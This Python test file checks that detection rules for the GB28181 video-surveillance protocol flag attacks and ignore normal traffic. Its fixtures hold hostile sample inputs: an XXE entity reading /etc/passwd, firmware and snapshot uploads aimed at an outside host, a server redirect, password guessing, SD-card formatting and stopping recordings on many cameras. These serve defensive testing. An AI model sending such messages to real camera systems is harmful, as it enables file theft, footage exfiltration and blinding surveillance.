"""Rules for the city's video end to end: messages on the wire, decoded from packets, raise what is meant for them."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import polars as pl
import pytest
from scripts.city import plan
from tests.decoders import wire
from tests.decoders.ot import test_gb28181 as gb

from cityguard import content
from cityguard.collect import collect
from cityguard.detectors.rules import RuleDetector
from cityguard.model import EventBatch
from cityguard.register.register import Register
from cityguard.sigma.rule import Ruleset, load

SECOND = 10**9
SERVER, RECORDER, STRANGER = "10.71.0.5", "10.71.10.41", "10.71.10.97"
REGISTER = f"REGISTER sip:{gb.PLATFORM}@{gb.DOMAIN} SIP/2.0"
BOOT = "<TeleBoot>Boot</TeleBoot>"
Said = tuple[str, bytes]
"""Who speaks with the recorder (or, when it speaks, it) and what is said."""


def cameras(count: int) -> list[str]:
    return [f"9901000100132000{number:04}" for number in range(1, count + 1)]


def registers(password: str, number: int, status: str = "") -> list[Said]:
    call = f"r{number}"
    ask = gb.message(REGISTER, sender=gb.NVR, receiver=gb.NVR, number=2, call=call, Authorization=gb.digest(password))
    found = [(RECORDER, ask)]
    if status:
        answer = gb.message(f"SIP/2.0 {status}", sender=gb.NVR, receiver=gb.NVR, number=2, call=call, method="REGISTER")
        found.append((SERVER, answer))
    return found


def config(rest: str, **more: str) -> Said:
    return SERVER, gb.order(rest, "DeviceConfig", **more)


def to_platform(body: str | bytes, call: str = "up") -> Said:
    first = f"MESSAGE sip:{gb.PLATFORM}@{SERVER} SIP/2.0"
    return RECORDER, gb.message(first, body, sender=gb.NVR, receiver=gb.PLATFORM, call=call)


def bad_sum(number: int) -> Said:
    return SERVER, gb.order("<PTZCmd>A50F01084040003E</PTZCmd>", call=f"p{number}")


def card(number: int, header: str) -> Said:
    return RECORDER, gb.message(REGISTER, sender=gb.NVR, receiver=gb.NVR, number=number, Authorization=header)


CASES: dict[str, list[Said]] = {
    "media_foreign_address": [(SERVER, gb.invite("10.99.1.5", "Download"))],
    "upgrade": [
        (SERVER, gb.order("<DeviceUpgrade><FileURL>http://203.0.113.9/fw.bin</FileURL></DeviceUpgrade>")),
    ],
    "format": [(SERVER, gb.order("<FormatSDCard>0</FormatSDCard>"))],
    "default_password": registers("12345678", 1),
    "command_other_server": [*registers("x9", 1, "200 OK"), (STRANGER, gb.order(BOOT))],
    "asked_by_other_server": [
        *registers("x9", 1, "200 OK"),
        (STRANGER, gb.order("", "x").replace(b"Control>", b"Query>")),
    ],
    "password_guessing": [one for number in range(8) for one in registers(f"x{number}", number, "403 Forbidden")],
    "many_ids": [
        (STRANGER, gb.message(REGISTER, sender=camera, receiver=camera, call=camera)) for camera in cameras(12)
    ],
    "second_address": [
        to_platform(gb.xml("Notify", "Keepalive")),
        (STRANGER, gb.message(REGISTER, sender=gb.NVR, receiver=gb.NVR)),
    ],
    "blinding": [
        (SERVER, gb.order("<RecordCmd>StopRecord</RecordCmd>", device=camera, call=camera)) for camera in cameras(5)
    ],
    "talk": [(SERVER, gb.invite("10.71.0.6", "Talk"))],
    "mask_or_alarm": [config("<PictureMask><On>1</On></PictureMask>")],
    "snapshot_upload": [config("<SnapShotConfig><UploadURL>http://203.0.113.9/up</UploadURL></SnapShotConfig>")],
    "redirect": [config("<BasicParam><SIPServerIP>10.99.1.5</SIPServerIP></BasicParam>")],
    "heartbeat_stretched": [config("<BasicParam><HeartBeatInterval>900</HeartBeatInterval></BasicParam>")],
    "signature_missing": [
        card(1, 'Capability algorithm="A:SM2;H:SM3", keyversion="1"'),
        card(2, gb.digest("x9")),
    ],
    "date_off": [(SERVER, gb.order(BOOT, Note='Digest nonce="a", algorithm=MD5', Date="2023-11-15T08:00:00"))],
    "camera_asks": [(SERVER, gb.order(BOOT, sender=gb.CAMERA))],
    "ptz_check": [bad_sum(number) for number in range(4)],
    "xml_declaration": [to_platform(b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><Notify>&b;</Notify>")],
    "footage_many": [
        (SERVER, gb.invite("10.71.0.6", "Playback", call=camera).replace(gb.CAMERA.encode(), camera.encode()))
        for camera in cameras(25)
    ],
}
ORDINARY = [
    *registers("Wq7!mmZ", 1, "200 OK"),
    *(to_platform(gb.xml("Notify", "Keepalive", sn=number), call=f"k{number}") for number in range(5)),
    (SERVER, gb.message(f"MESSAGE sip:{gb.NVR}@{RECORDER} SIP/2.0", gb.xml("Query", "Catalog"), call="q")),
    (SERVER, gb.order(f"<PTZCmd>{gb.ptz(2, 40, 0, 0)}</PTZCmd>", call="p")),
    (SERVER, gb.order(f"<PTZCmd>{gb.ptz(0x82, 0, 5, 0)}</PTZCmd>", call="s")),
    (SERVER, gb.invite("10.71.0.6")),
]


@pytest.fixture(scope="module")
def whole() -> Ruleset:
    return load([content.root() / "rules"])


@pytest.fixture(scope="module")
def ruleset(whole: Ruleset) -> Ruleset:
    mine = tuple(rule for rule in whole.rules if rule.head.name.startswith("cityguard.ot.gb28181_"))
    more = tuple(one for one in whole.correlations if one.head.name.startswith("cityguard.ot.gb28181_"))
    return replace(whole, rules=mine, correlations=more)


def raised(ruleset: Ruleset, said: Sequence[Said]) -> set[str]:
    packets, times = [], []
    for number, (source, data) in enumerate(said):
        destination = SERVER if source == RECORDER or b"REGISTER sip:" in data[:20] else RECORDER
        packets.append(wire.ether(wire.ip4(source, destination, 17, wire.udp(5060, 5060, data))))
        times.append(wire.START + number * SECOND)
    decoder = wire.capture.decoder({})
    batches = [*decoder.decode(wire.frames(packets, times=times)).batches, *decoder.flush().batches]
    detector = RuleDetector(ruleset)
    alerts = [alert for batch in batches if batch.dataset == "ot" for alert in detector.detect(batch)]
    heads = [ruleset.head(alert.rule_id) for alert in (*alerts, *detector.finish())]
    return {head.name.removeprefix("cityguard.ot.gb28181_") for head in heads if head}


@pytest.mark.parametrize("name", sorted(CASES))
def test_what_is_said_raises_what_is_meant_for_it(name: str, ruleset: Ruleset) -> None:
    found = raised(ruleset, CASES[name])
    assert name in found
    allowed = {"many_ids": {"second_address"}, "password_guessing": {"second_address"}}
    assert found - {name} <= allowed.get(name, set())


def test_firmware_from_a_listed_server_is_ordinary() -> None:
    rules = content.root() / "rules" / "ot"
    files = [rules / f"gb28181_{name}.yml" for name in ("upgrade", "snapshot_upload")]
    for listed in ("203.0.113.0/24", "http://203.0.113.9/"):
        lists = {"gb28181_file_hosts": [listed]}
        for name in ("upgrade", "snapshot_upload"):
            assert raised(load(files, lists), CASES[name]) == set()
            assert raised(load(files, {"gb28181_file_hosts": ["10.9.9.9"]}), CASES[name]) == {name}


def test_an_ordinary_day_raises_nothing(ruleset: Ruleset) -> None:
    assert raised(ruleset, ORDINARY) == set()


def test_the_sample_city_s_video_without_its_intruder_raises_nothing(whole: Ruleset) -> None:
    root = Path(__file__).parents[2]
    register = Register.load(root / "examples" / "city" / "register.yml")
    detector = RuleDetector(whole)
    chunks = collect.read(
        root / "pcaps" / "video-blinding.pcap",
        collect.Collectors.load(None),
        now=datetime(2026, 3, 12, tzinfo=UTC),
        decoders={},
    )
    alerts, rows = [], 0
    for batch in (register.enrich(batch) for chunk in chunks for batch in chunk.decoded.batches):
        theirs = pl.any_horizontal(pl.col("source.ip", "destination.ip") == plan.VIDEO_INTRUDER)
        kept = batch.table.filter(~theirs.fill_null(value=False))
        rows += kept.height
        alerts += detector.detect(EventBatch(batch.dataset, batch.collector, kept, batch.segment, batch.logsource))
    assert rows > 130
    assert [alert.title.en for alert in (*alerts, *detector.finish())] == []
